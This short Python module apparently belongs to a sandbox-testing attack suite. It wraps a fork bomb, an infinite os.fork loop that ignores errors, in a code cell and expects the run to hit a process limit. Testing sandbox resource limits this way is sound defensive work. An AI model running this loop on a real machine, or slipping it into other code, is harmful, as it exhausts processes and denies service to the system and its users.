"""Forks in a loop; every child keeps forking and ignores the errors."""
from attacks.course import with_first_cell

ENDS = "process_limit"


def build(release, ctx):
    return with_first_cell(release, '''
import os, time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
''')
